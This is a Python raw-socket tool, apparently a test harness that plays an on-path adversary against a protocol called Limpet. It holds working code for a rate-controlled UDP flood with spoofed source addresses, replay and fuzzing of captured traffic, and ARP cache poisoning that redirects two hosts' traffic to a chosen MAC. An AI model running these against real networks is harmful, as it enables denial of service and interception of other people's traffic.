"""Somebody on the air, with raw sockets. One command, told by its arguments; one line of JSON at the end.

flood IFACE RATE SECONDS FILE DST_MAC DST_IP DST_PORT SOURCE_IP|any
    sends the UDP payloads of FILE (each a length in 2 bytes, then the bytes) at a rate
record IFACE FILE
    writes what it hears of Limpet to FILE, until its standard input ends
repeat IFACE RATE FILE
    sends what was recorded: as it was, with a bit flipped, cut short, and padded
poison IFACE SECONDS MAC FIRST_MAC FIRST_IP SECOND_MAC SECOND_IP
    tells each of two hosts that the other is at MAC
"""
import ctypes
import json
import os
import random
import select
import socket
import struct
import sys
import time

BATCH = 100
PORT = 7464
ETH_IP = 0x0800
ETH_ARP = 0x0806


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class Msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(Iovec)),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


class Mmsghdr(ctypes.Structure):
    _fields_ = [("hdr", Msghdr), ("length", ctypes.c_uint32)]


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def raw(iface, protocol=0):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(protocol))
    sock.bind((iface, protocol))
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
    return sock


def checksum(header):
    total = sum(struct.unpack("!10H", header))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def frame(payload, dst_mac, src_mac, src_ip, dst_ip, port):
    udp = struct.pack("!HHHH", port, port, 8 + len(payload), 0)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), random.randrange(65536), 0, 1, 17, 0,
                     src_ip, dst_ip)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return dst_mac + src_mac + struct.pack("!H", ETH_IP) + ip + udp + payload


def pump(iface, frames, rate, count):
    """Sends frames in batches, so that the sender costs little of the machine that it shares."""
    libc = ctypes.CDLL("libc.so.6", use_errno=True)
    sock = raw(iface)
    buffers = [ctypes.create_string_buffer(one, len(one)) for one in frames]
    vectors = (Iovec * len(buffers))()
    messages = (Mmsghdr * len(buffers))()
    for i, buffer in enumerate(buffers):
        vectors[i].base = ctypes.cast(buffer, ctypes.c_void_p)
        vectors[i].length = len(buffer)
        messages[i].hdr.iov = ctypes.pointer(vectors[i])
        messages[i].hdr.iovlen = 1
    size = ctypes.sizeof(Mmsghdr)
    sent = 0
    at = 0
    began = time.monotonic()
    while sent < count:
        batch = min(BATCH, count - sent, len(buffers) - at)
        done = libc.sendmmsg(sock.fileno(), ctypes.byref(messages, at * size), batch, 0)
        if done > 0:
            sent += done
            at = (at + done) % len(buffers)
        ahead = began + sent / rate - time.monotonic()
        if ahead > 0.004:
            time.sleep(ahead)
    return sent, time.monotonic() - began


def flood(iface, rate, seconds, path, dst_mac, dst_ip, port, source):
    data = open(path, "rb").read()
    frames = []
    at = 0
    while at < len(data):
        length = struct.unpack_from("!H", data, at)[0]
        payload = data[at + 2:at + 2 + length]
        at += 2 + length
        src_mac = bytes([2]) + os.urandom(5)
        src_ip = socket.inet_aton(source) if source != "any" else bytes([10, 88, 0, random.randrange(10, 250)])
        frames.append(frame(payload, mac(dst_mac), src_mac, src_ip, socket.inet_aton(dst_ip), int(port)))
    sent, took = pump(iface, frames, float(rate), int(float(rate) * float(seconds)))
    print(json.dumps({"sent": sent, "seconds": took}))


def record(iface, path):
    sock = raw(iface, ETH_IP)
    kinds = {}
    with open(path, "wb") as out:
        while True:
            ready = select.select([sock, sys.stdin], [], [])[0]
            if sys.stdin in ready:
                break
            one = sock.recv(65536)
            if len(one) > 43 and one[23] == 17 and PORT in struct.unpack_from("!2H", one, 34):
                kind = one[42] & 0x0F
                kinds[kind] = kinds.get(kind, 0) + 1
                if kinds[kind] <= 500 and len(one) <= 1514:
                    out.write(struct.pack("!H", len(one)) + one)
    print(json.dumps({"kinds": {str(kind): number for kind, number in kinds.items()}}))


def resized(one, payload):
    source, destination = one[26:30], one[30:34]
    again = frame(payload, one[:6], one[6:12], source, destination, 0)
    return again[:34] + one[34:38] + again[38:]


def repeat(iface, rate, path):
    data = open(path, "rb").read()
    whole = []
    at = 0
    while at < len(data):
        length = struct.unpack_from("!H", data, at)[0]
        whole.append(data[at + 2:at + 2 + length])
        at += 2 + length
    frames = []
    for one in whole:
        payload = one[42:]
        frames.append(one)
        for _ in range(2):
            bit = random.randrange(8 * len(payload))
            flipped = bytearray(payload)
            flipped[bit // 8] ^= 1 << bit % 8
            frames.append(resized(one, bytes(flipped)))
        frames.append(resized(one, payload[:random.randrange(len(payload))]))
        frames.append(resized(one, payload + os.urandom(1472 - len(payload))) if len(payload) < 1472 else one)
    random.shuffle(frames)
    sent, took = pump(iface, frames, float(rate), len(frames))
    print(json.dumps({"recorded": len(whole), "sent": sent, "seconds": took}))


def poison(iface, seconds, false_mac, first_mac, first_ip, second_mac, second_ip):
    sock = raw(iface)
    lie = mac(false_mac)

    def reply(to_mac, to_ip, about_ip):
        arp = struct.pack("!HHBBH6s4s6s4s", 1, ETH_IP, 6, 4, 2, lie, socket.inet_aton(about_ip), mac(to_mac),
                          socket.inet_aton(to_ip))
        return mac(to_mac) + lie + struct.pack("!H", ETH_ARP) + arp

    lies = [reply(first_mac, first_ip, second_ip), reply(second_mac, second_ip, first_ip)]
    until = time.monotonic() + float(seconds)
    told = 0
    while time.monotonic() < until:
        for one in lies:
            sock.send(one)
            told += 1
        time.sleep(0.1)
    print(json.dumps({"told": told}))


if __name__ == "__main__":
    {"flood": flood, "record": record, "repeat": repeat, "poison": poison}[sys.argv[1]](*sys.argv[2:])
